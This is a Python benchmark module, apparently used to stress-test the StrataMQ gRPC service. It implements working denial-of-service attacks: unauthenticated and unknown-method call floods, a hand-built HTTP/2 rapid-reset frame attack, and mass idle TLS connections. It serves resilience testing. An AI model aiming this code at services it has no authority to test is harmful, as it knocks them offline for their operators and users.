"""A client process that harms a service as fast as it can, until its standard input ends.

    python -m stratamq_bench.hostile_client --address HOST:PORT --ca FILE --attack refused-calls

    refused-calls     appends with an unknown token
    unknown-methods   calls of methods that are not there
    reset-streams     calls that are opened and reset at once (HTTP/2 rapid reset)
    reset-malformed   the same of calls that gRPC refuses by itself: they lack a header
    idle-connections  thousands of connections that say nothing behind their handshake

It prints `started` once it is at work. What the service closes is opened again.
"""

import argparse
import asyncio
import contextlib
import socket
import ssl
import struct
import sys
import threading
from collections.abc import Awaitable, Callable
from pathlib import Path

import grpc

from stratamq.rpc.address import split_address
from stratamq.rpc.methods import METHODS

AT_ONCE = 16
IDLE_CONNECTIONS = 10_000
STREAMS_OF_A_CONNECTION = 2_000
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_CANCELLED = b"\0\0\0\x08"
_AUTHORITY_AND_TYPE = b"\x41\x01x\x5f\x10application/grpc"
_TRAILERS = b"\x40\x02te\x08trailers"
_HEADERS, _RESET, _END_OF_HEADERS = 1, 3, 4
Attack = Callable[[str, Path], Awaitable[None]]


async def refused_calls(address: str, ca: Path) -> None:
    await _call(address, ca, METHODS["Append"].path, (("authorization", "Bearer unknown"),))


async def unknown_methods(address: str, ca: Path) -> None:
    await _call(address, ca, METHODS["Append"].path + "Nothing", ())


async def _call(address: str, ca: Path, path: str, metadata: tuple[tuple[str, str], ...]) -> None:
    credentials = grpc.ssl_channel_credentials(ca.read_bytes())
    async with grpc.aio.secure_channel(address, credentials) as channel:
        call = channel.unary_unary(path)

        async def again_and_again() -> None:
            while True:
                with contextlib.suppress(grpc.RpcError):
                    await call(b"", metadata=metadata, timeout=10)

        async with asyncio.TaskGroup() as tasks:
            for _ in range(AT_ONCE):
                tasks.create_task(again_and_again())


async def reset_streams(address: str, ca: Path) -> None:
    await _reset_again_and_again(address, ca, _TRAILERS)


async def reset_malformed(address: str, ca: Path) -> None:
    await _reset_again_and_again(address, ca, b"")


async def _reset_again_and_again(address: str, ca: Path, more_headers: bytes) -> None:
    path = METHODS["Append"].path.encode()
    block = b"\x83\x87\x44" + bytes([len(path)]) + path + _AUTHORITY_AND_TYPE + more_headers
    while True:
        with contextlib.suppress(OSError):
            await asyncio.to_thread(_reset, address, ca, block)


def _reset(address: str, ca: Path, block: bytes) -> None:
    with _connected(address, ca) as connection:
        connection.sendall(_PREFACE)
        for number in range(STREAMS_OF_A_CONNECTION):
            stream = 2 * number + 1
            opened = _frame(_HEADERS, _END_OF_HEADERS, stream, block)
            connection.sendall(opened + _frame(_RESET, 0, stream, _CANCELLED))


async def idle_connections(address: str, ca: Path) -> None:
    connections = []
    for _ in range(IDLE_CONNECTIONS):
        with contextlib.suppress(OSError):
            connections.append(await asyncio.to_thread(_connected, address, ca))
    await asyncio.Event().wait()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _connected(address: str, ca: Path) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=str(ca))
    context.set_alpn_protocols(["h2"])
    host, port = split_address(address)
    plain = socket.create_connection((host, port), timeout=10)
    return context.wrap_socket(plain, server_hostname=host)


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (refused_calls, unknown_methods, reset_streams, reset_malformed, idle_connections)
}


async def run(attack: Attack, address: str, ca: Path) -> None:
    """Until standard input ends."""
    over, loop = asyncio.Event(), asyncio.get_running_loop()

    def wait_for_the_end() -> None:
        sys.stdin.read()
        loop.call_soon_threadsafe(over.set)

    threading.Thread(target=wait_for_the_end, daemon=True).start()
    work = asyncio.ensure_future(attack(address, ca))
    print("started", flush=True)
    ended = asyncio.ensure_future(over.wait())
    await asyncio.wait((work, ended), return_when=asyncio.FIRST_COMPLETED)
    if work.done():
        work.result()
    work.cancel()


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--address", required=True, help="HOST:PORT of the service")
    parser.add_argument("--ca", required=True, type=Path, help="the PEM file to trust")
    parser.add_argument("--attack", required=True, choices=ATTACKS)
    options = parser.parse_args()
    asyncio.run(run(ATTACKS[options.attack], options.address, options.ca))


if __name__ == "__main__":
    main()
